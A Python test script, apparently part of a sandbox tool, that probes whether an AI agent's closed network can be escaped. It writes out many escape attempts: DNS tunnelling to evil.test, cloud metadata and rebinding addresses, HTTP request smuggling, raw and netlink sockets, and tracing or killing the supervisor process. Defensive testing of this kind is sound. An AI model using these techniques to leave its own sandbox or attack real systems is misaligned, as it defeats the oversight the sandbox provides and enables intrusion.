"""What an agent could try against its closed network, run inside a sandbox by `seatrial doctor --network`.

Each probe first proves that it works where it is allowed, then tries what must fail, and says in a word or two what it
saw. What must be seen is not known here: the runner's table has it. Standard library alone; a line of JSON each.
"""
import contextlib, ctypes, errno, json, os, select, socket, ssl, struct, sys, threading, time, urllib.request

GIVEN = json.loads(sys.argv[1])
PORT, HOSTS = GIVEN["port"], GIVEN["hosts"]
RESOLVER = ("127.77.0.1", 53)
LIBC = ctypes.CDLL(None, use_errno=True)
PROBES = []


class Unproven(Exception):
    """The probe does not work where it is allowed, so what it sees proves nothing."""


def probe(name):
    def keep(act):
        PROBES.append((name, act))
        return act
    return keep


def works(fact, what):
    if not fact:
        raise Unproven(what)


def seen(act, *args):
    """What an act gives, or its failure in a word."""
    try:
        return str(act(*args))
    except socket.gaierror as e:
        return {socket.EAI_NONAME: "no such name", socket.EAI_NODATA: "no address"}.get(e.errno, f"gaierror {e.errno}")
    except ssl.SSLEOFError:
        return "broken off"
    except ConnectionResetError:
        return "broken off"
    except TimeoutError:
        return "no answer"
    except OSError as e:
        return errno.errorcode.get(e.errno, repr(e))


def each(act, tries):
    """What all tries gave: one word where they agree."""
    words = sorted({seen(act, *(t if isinstance(t, tuple) else (t,))) for t in tries})
    return ", ".join(words)


def system(number, *args):
    """A system call by its number; raises as Python's own do."""
    given = LIBC.syscall(ctypes.c_long(number), *(a if isinstance(a, bytes) or a is None else ctypes.c_long(a) for a in args))
    if given < 0:
        raise OSError(ctypes.get_errno(), "")
    return given


def resolve(name, family=socket.AF_UNSPEC):
    socket.getaddrinfo(name, 80, family, socket.SOCK_STREAM)
    return "an address"


def tcp(address, port, family=socket.AF_INET):
    with contextlib.closing(socket.socket(family, socket.SOCK_STREAM)) as s:
        s.settimeout(5)
        s.connect((address, port))
    return "connected"


def udp(address, port=53, family=socket.AF_INET, options=()):
    with contextlib.closing(socket.socket(family, socket.SOCK_DGRAM)) as s:
        for option in options:
            s.setsockopt(*option)
        s.sendto(b"x", (address, port))
    return "sent"


def finish(s):
    # Where it has been broken off already, the next read says so.
    with contextlib.suppress(OSError):
        s.shutdown(socket.SHUT_WR)


def talk(host, data, port=80, more=None):
    """What comes back of bytes on a connection of their own, up to its end."""
    with socket.create_connection((host, port), 15) as s:
        s.sendall(data)
        if more is None:
            finish(s)
        got = b""
        while piece := s.recv(65536):
            got += piece
            if more is not None and b"upstream" in got:
                works(got.startswith(b"HTTP/1.1 200"), "the first request is answered")
                s.sendall(more)
                got, more = b"", None
                finish(s)
    return "answered" if b"upstream" in got else "broken off" if not got else repr(got[:60])


def request(host, path="/", method="GET", version="1.1", more=""):
    return f"{method} {path} HTTP/{version}\r\nHost: {host}\r\n{more}\r\n".encode()


def tls(address, name, port=443):
    context = ssl.create_default_context(cadata=bytes.fromhex(GIVEN["ca"]))
    context.check_hostname = False
    with socket.create_connection((address, port), 15) as s, context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(request(name or "good.test", more="Connection: close\r\n"))
        return "answered" if b"upstream" in t.recv(65536) else "nothing"


def get(url):
    return urllib.request.urlopen(url, timeout=15).read().decode()


def query(name, kind=1, server=RESOLVER, over_tcp=False):
    """The response code and the number of answers."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    if over_tcp:
        with socket.create_connection(server, 5) as s:
            s.sendall(struct.pack(">H", len(message)) + message)
            answer = s.recv(4096)[2:]
    else:
        with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as s:
            s.settimeout(5)
            s.connect(server)
            s.send(message)
            answer = s.recv(4096)
    code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    return {(0, 0): "empty", (3, 0): "no such name"}.get((code, count), f"code {code}, {count} answers")


def reaches():
    return seen(talk, "good.test", request("good.test")) == "answered"


# Names.

@probe("another name")
def _():
    works(resolve("good.test"), "a listed name resolves")
    return each(resolve, ["canary.test", "evil.test", "localhost.evil.test"])


@probe("a wildcard's own name")
def _():
    works(resolve("a.b.wild.test"), "a name below it resolves")
    return each(resolve, ["wild.test"])


@probe("look-alikes of listed names")
def _():
    works(resolve("good.test"), "the name itself resolves")
    return each(resolve, ["evilgood.test", "good.test.evil.test", "x.good.test", "evilwild.test", "good.tes"])


@probe("an unlisted name, asked over TCP")
def _():
    works(query("good.test", over_tcp=True) == "code 0, 1 answers", "a listed name is answered over TCP")
    return each(lambda name: query(name, over_tcp=True), ["canary.test", "evil.test"])


@probe("TXT, MX, HTTPS, NS, NULL and ANY of a listed name")
def _():
    works(query("good.test") == "code 0, 1 answers", "its address is answered")
    return each(lambda kind: query("good.test", kind), [16, 15, 65, 64, 2, 10, 255, 28])


@probe("a tunnel through the resolver")
def _():
    works(query("good.test") == "code 0, 1 answers", "the resolver answers")
    data = [os.urandom(20).hex() for _ in range(200)]
    return each(lambda part: query(f"{part}.tunnel.evil.test", 16), data)


@probe("the engine's own resolver")
def _():
    works(query("good.test") == "code 0, 1 answers", "the same question is answered by the sandbox's")
    return seen(lambda: query("canary.test", server=("127.0.0.11", 53)))


# Addresses.

@probe("the runner's and the engine's machine")
def _():
    works(tcp("good.test", 80) and HOSTS, "a listed name connects, and there are addresses to try")
    return each(tcp, [(host, port) for host in HOSTS for port in (PORT, 22, 80, 2375)])


@probe("usual addresses of an engine's machine")
def _():
    works(tcp("good.test", 80), "a listed name connects")
    return each(tcp, [(host, PORT) for host in ["172.17.0.1", "172.18.0.1", "192.168.65.2", "192.168.65.254", "10.0.2.2"]])


@probe("addresses of the internet")
def _():
    works(tcp("198.51.100.7", 80), "a listed address connects")
    return each(tcp, [("1.1.1.1", 443), ("8.8.8.8", 53), ("203.0.113.1", 80), ("198.51.100.8", 80)])


@probe("metadata addresses")
def _():
    works(tcp("198.51.100.7", 80), "a listed address connects")
    return each(tcp, [("169.254.169.254", 80), ("100.100.100.200", 80), ("168.63.129.16", 80)])


@probe("odd spellings of addresses")
def _():
    works(tcp("0xc6336407", 80), "a listed address in an odd spelling connects")
    number = struct.unpack(">I", socket.inet_aton(HOSTS[0]))[0]
    return each(tcp, [(str(number), PORT), (hex(number), PORT), (f"0{number:o}", PORT), ("169.16689662", 80)])


@probe("IPv6")
def _():
    v6 = socket.AF_INET6
    works(tcp("2001:db8::7", 80, v6), "a listed address of IPv6 connects")
    addresses = ["2606:4700:4700::1111", "2001:db8::8", "fe80::1%lo", "fd00:ec2::254"]
    return each(tcp, [(address, 80, v6) for address in addresses])


@probe("IPv4 in IPv6's clothes")
def _():
    v6 = socket.AF_INET6
    works(tcp("::ffff:198.51.100.7", 80, v6), "a listed address in these clothes connects")
    return each(tcp, [(f"{start}{host}", PORT, v6) for host in HOSTS for start in ("::ffff:", "64:ff9b::", "::")])


@probe("loopback of the runner's machine")
def _():
    works(tcp("good.test", PORT), "the port is listed, and connects at a listed name")
    return each(tcp, [("127.0.0.1", PORT), ("127.0.0.2", PORT), ("0.0.0.0", PORT)])


@probe("another port of a listed name")
def _():
    works(tcp("good.test", 443), "a listed port connects")
    return each(tcp, [("good.test", port) for port in (22, 25, 81, 8080)])


@probe("another trial's container")
def _():
    with socket.create_server(("127.0.0.1", 0)) as own:
        works(tcp(*own.getsockname()), "a listener of its own connects")
    def unix(name):
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(name)
        return "connected"
    return each(lambda act, *args: act(*args), [(tcp, "127.0.0.1", 8099), (tcp, "good.test", 8099), (unix, "\0neighbour")])


# Other ways than TCP.

def own_datagram():
    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as s:
        s.settimeout(5)
        s.bind(("127.0.0.1", 0))
        udp(*s.getsockname())
        return s.recv(1) == b"x"


@probe("UDP, port 53, to anywhere")
def _():
    works(own_datagram(), "a datagram to a socket of its own arrives")
    return each(udp, ["8.8.8.8", "1.1.1.1", "192.0.2.53", *HOSTS])


@probe("UDP to the runner's machine")
def _():
    works(own_datagram(), "a datagram to a socket of its own arrives")
    return each(udp, [(host, PORT) for host in HOSTS])


@probe("multicast and broadcast")
def _():
    works(own_datagram(), "a datagram to a socket of its own arrives")
    broadcast = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]
    v4 = socket.AF_INET
    return each(udp, [("224.0.0.251", 5353), ("239.255.255.250", 1900), ("255.255.255.255", PORT, v4, broadcast)])


@probe("ping")
def _():
    works(own_datagram(), "a datagram to a socket of its own arrives")
    def ping(kind, host):
        with contextlib.closing(socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)) as s:
            s.settimeout(5)
            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (host, 0))
        return "sent"
    return each(ping, [(kind, host) for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM) for host in ["8.8.8.8", HOSTS[0]]])


@probe("raw and packet sockets")
def _():
    with contextlib.closing(socket.socket(socket.AF_INET, socket.SOCK_STREAM)):
        pass
    def make(*args):
        socket.socket(*args).close()
        return "a socket"
    raw = socket.SOCK_RAW
    kinds = [(socket.AF_INET, raw, 255), (socket.AF_INET, raw, 6), (socket.AF_INET6, raw, 58), (17, raw, 3), (17, 2, 3)]
    return each(make, kinds)


@probe("families that no network namespace keeps in")
def _():
    def make(family, kind):
        with contextlib.closing(socket.socket(family, kind)):
            return f"a socket of family {family}"
    works(make(socket.AF_INET, 1), "a socket of a permitted family is made")
    return each(make, [(family, kind) for family in range(3, 64) if family not in (10, 16) for kind in (1, 2, 3, 5)])


@probe("sockets by io_uring")
def _():
    works(system({"x86_64": 39}.get(os.uname().machine, 172)) == os.getpid(), "a system call by number works")
    return seen(lambda: system(425, 4, bytes(256)) and "a ring")


@probe("a tunnel device")
def _():
    works(os.path.exists("/dev/null"), "there are devices")
    def tun():
        os.mknod("/tmp/tun", 0o20600, os.makedev(10, 200))
        return os.open("/tmp/tun", os.O_RDWR)
    return each(lambda act: act(), [tun, lambda: os.open("/dev/net/tun", os.O_RDWR)])


# The sandbox's own network.

def netlink(kind, flags, body):
    with contextlib.closing(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)) as s:
        s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        answer = s.recv(65536)
    if struct.unpack("=H", answer[4:6])[0] == 2:
        code = -struct.unpack("=i", answer[16:20])[0]
        if code:
            raise OSError(code, "")
    return "done"


def links_are_shown():
    works(netlink(18, 0x301, bytes(16)) == "done", "the kernel tells of interfaces")


@probe("a new address")
def _():
    links_are_shown()
    return seen(netlink, 20, 0x605, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + struct.pack("=HH", 8, 2) + bytes([10, 9, 8, 7]))


@probe("a new route")
def _():
    links_are_shown()
    body = bytes([2, 0, 0, 0, 254, 4, 0, 1, 0, 0, 0, 0]) + struct.pack("=HHI", 8, 4, 1)
    return seen(netlink, 24, 0x605, body)


@probe("a new interface")
def _():
    links_are_shown()
    kind = struct.pack("=HH", 9, 1) + b"dummy\0\0\0"
    return seen(netlink, 16, 0x605, bytes(16) + struct.pack("=HH", 4 + len(kind), 18) + kind)


@probe("a new network namespace, or another's")
def _():
    works(os.open("/proc/self/ns/net", os.O_RDONLY) >= 0, "its own namespace opens")
    def unshare(flags):
        if LIBC.unshare(flags):
            raise OSError(ctypes.get_errno(), "")
        return "a namespace"
    return each(lambda act, *args: act(*args), [
        (unshare, 0x40000000), (unshare, 0x50000000), (os.open, "/proc/1/ns/net", os.O_RDONLY),
    ])


@probe("settings of the kernel's network")
def _():
    path = "/proc/sys/net/ipv4/ip_forward"
    works(open(path).read(), "they are read")
    return each(lambda path: open(path, "w"), [path, "/proc/sys/net/ipv4/conf/all/route_localnet"])


# The supervisor.

@probe("the supervisor's streams and memory")
def _():
    works(os.open("/proc/self/fd/1", os.O_WRONLY) >= 0, "its own output opens")
    paths = ["/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/mem", "/proc/1/environ"]
    return each(lambda path: os.open(path, os.O_RDWR), paths)


@probe("tracing the supervisor")
def _():
    works(system({"x86_64": 39}.get(os.uname().machine, 172)) == os.getpid(), "a system call by number works")
    ptrace = {"x86_64": 101}.get(os.uname().machine, 117)
    return each(system, [(ptrace, 16, 1, 0, 0), (ptrace, 0x4206, 1, 0, 0)])


@probe("a descriptor of the supervisor")
def _():
    works(system(434, os.getpid(), 0) >= 0, "a process of its own is opened")
    return each(lambda fd: system(438, system(434, 1, 0), fd, 0), [0, 1, 3, 4, 5])


@probe("limits of the supervisor")
def _():
    works(__import__("resource").prlimit(0, 7), "its own limits are read")
    return seen(lambda: __import__("resource").prlimit(1, 7, (0, 0)))


@probe("killing and stopping the supervisor")
def _():
    works(reaches(), "a listed name answers before")
    for signal in (9, 19, 15, 11, 6):
        with contextlib.suppress(OSError):
            os.kill(1, signal)
    time.sleep(0.2)
    return "still answers" if reaches() else "no way out any more"


@probe("a listener of its own on every address")
def _():
    works(tls("good.test", "good.test") == "answered", "a listed name answers before")
    own = []
    for options in ([], [socket.SO_REUSEADDR], [socket.SO_REUSEADDR, socket.SO_REUSEPORT]):
        for address in ("0.0.0.0", socket.gethostbyname("good.test")):
            s = socket.socket()
            own.append(s)
            with contextlib.suppress(OSError):
                for option in options:
                    s.setsockopt(socket.SOL_SOCKET, option, 1)
                s.bind((address, 443))
                s.listen()
    answer = seen(tls, "good.test", "good.test")
    for s in own:
        s.close()
    return "the upstream answers" if answer == "answered" else answer


@probe("taking over the resolver")
def _():
    works(query("good.test") == "code 0, 1 answers", "it answers")
    def bind(kind):
        with contextlib.closing(socket.socket(socket.AF_INET, kind)) as s:
            s.bind(RESOLVER)
        return "bound"
    return each(bind, [socket.SOCK_DGRAM, socket.SOCK_STREAM])


@probe("frames in its own output")
def _():
    name = b"canary.test"
    opens = struct.pack("<BIIHI", ord("o"), 1, 6 + len(name), PORT, len(name)) + name
    os.write(1, b"\n" + opens + b"\n")
    os.write(2, opens)
    return "still answers" if reaches() else "no way out any more"


# What is sent to a listed host.

@probe("TLS for another name")
def _():
    works(tls("good.test", "good.test") == "answered", "TLS for the name itself is answered")
    return each(tls, [("good.test", name) for name in ("canary.test", "other.wild.test", "good.test.evil.test")])


@probe("TLS for a listed name at another address")
def _():
    works(tls("good.test", "good.test") == "answered", "TLS to the name's own address is answered")
    return each(tls, [(host, "good.test") for host in ["1.1.1.1", "203.0.113.1", *HOSTS]])


@probe("a request for another host")
def _():
    works(reaches(), "a request for the host itself is answered")
    hosts = ["canary.test", "good.test.evil.test", "good.test@canary.test", "127.0.0.1", "good.test\r\nHost: canary.test"]
    return each(talk, [("good.test", request(host)) for host in hosts])


@probe("a URL of another host in a request")
def _():
    works(seen(talk, "good.test", request("good.test", "http://good.test/")) == "answered", "its own URL is answered")
    return each(talk, [("good.test", request("good.test", "http://canary.test/")),
                       ("good.test", request("good.test", "http://good.test@canary.test/"))])


@probe("another host in a connection's second request")
def _():
    return seen(talk, "good.test", request("good.test"), 80, request("canary.test"))


@probe("a request hidden in another's body")
def _():
    works(seen(talk, "good.test", request("good.test", method="POST", more="Content-Length: 2\r\n") + b"ok") == "answered",
          "a request with a body is answered")
    hidden = b"0\r\n\r\n" + request("canary.test")
    both = f"Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n"
    twice = f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n"
    odd = "Transfer-Encoding: xchunked\r\n"
    return each(talk, [("good.test", request("good.test", method="POST", more=more) + hidden) for more in (both, twice, odd)])


@probe("HTTP/2 without TLS")
def _():
    works(reaches(), "HTTP/1 is answered")
    return seen(talk, "good.test", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")


@probe("CONNECT through a listed host")
def _():
    works(reaches(), "a request is answered")
    return each(talk, [("good.test", request(f"canary.test:{PORT}", f"canary.test:{PORT}", method)) for method in ("CONNECT", "connect")])


@probe("a redirect to another host")
def _():
    works("upstream" in get("http://good.test/redirect/here"), "a redirect to the host itself is followed")
    try:
        return get("http://good.test/redirect/away")
    except urllib.error.URLError as e:
        return seen(lambda: (_ for _ in ()).throw(e.reason))


def rebound(names):
    works(reaches() and seen(talk, "good.test", request("good.test"), PORT) == "answered", "the port is listed")
    def act(name):
        with socket.create_connection((name, PORT), 15) as s:
            s.sendall(request(name))
            got = s.recv(100)
        return "broken off" if not got else repr(got)
    return each(act, names)


@probe("listed names that resolve to loopback")
def _():
    return rebound([f"{name}.rebind.test" for name in ("loopback", "any", "v6", "mapped", "nat64", "compatible")])


@probe("listed names that resolve to metadata addresses")
def _():
    return rebound([f"{name}.rebind.test" for name in ("metadata", "metadata-v6", "link-local")])


@probe("listed names that resolve to the runner's machine")
def _():
    return rebound([f"host{n}.rebind.test" for n in range(len(HOSTS))])


# Much of it.

@probe("requests that never end")
def _():
    works(reaches(), "a whole request is answered")
    slow = [socket.create_connection(("good.test", 80), 5) for _ in range(100)]
    for s in slow:
        s.sendall(b"GET / HTTP/1.1\r\nHost: good")
    time.sleep(1)
    answers = seen(tls, "good.test", "good.test")
    for s in slow:
        s.close()
    return "still answers" if answers == "answered" else answers


@probe("10,000 connections at once")
def _():
    works(reaches(), "one is answered")
    address = (socket.gethostbyname("good.test"), 80)
    kept = []
    for n in range(10_000):
        s = socket.socket()
        s.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            s.connect(address)
        kept.append(s)
        if len(kept) > 500:
            kept.pop(0).close()
    for s in kept:
        s.close()
    for _ in range(100):
        if reaches():
            return "still answers"
        time.sleep(0.1)
    return "no way out any more"


def run():
    wait = time.monotonic() + 30
    while time.monotonic() < wait and "yes" not in get("http://good.test/neighbour"):
        time.sleep(0.05)
    for name, act in PROBES:
        try:
            said = {"name": name, "seen": act()}
        except Exception as e:
            said = {"name": name, "unproven": str(e) or repr(e)}
        print("\n" + json.dumps(said), flush=True)


def neighbour():
    """Another trial, which listens, and asks its own host all the time until the attacks are over."""
    listener = socket.create_server(("0.0.0.0", 8099))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind("\0neighbour")
    unix.listen()
    works(tcp("127.0.0.1", 8099), "its listener connects")
    asked, slowest, failed, until = 0, 0, 0, time.monotonic() + 300
    while time.monotonic() < until:
        began = time.monotonic()
        said = seen(get, "http://good.test/done")
        slowest = max(slowest, time.monotonic() - began)
        asked, failed = asked + 1, failed + ("upstream" not in said)
        if "yes" in said:
            break
        time.sleep(0.05)
    word = "answered all along" if asked > 5 and not failed else f"{failed} of {asked} requests failed"
    if slowest > 5:
        word += f", one took {slowest:.1f} s"
    print("\n" + json.dumps({"name": "another trial meanwhile", "seen": word}), flush=True)


def shut():
    """A trial without any network."""
    works(own_datagram(), "a datagram to a socket of its own arrives")
    acts = [(resolve, "good.test"), (tcp, "127.77.0.2", 80), (tcp, *RESOLVER), (tcp, HOSTS[0], PORT), (udp, "8.8.8.8")]
    said = [seen(*act) for act in acts]
    leaks = [word for word in said if word in ("an address", "connected", "sent")]
    seen_ = "nothing is reached" if not leaks else repr(said)
    print("\n" + json.dumps({"name": "a trial without a network", "seen": seen_}), flush=True)


{"attack": run, "neighbour": neighbour, "shut": shut}[GIVEN["role"]]()
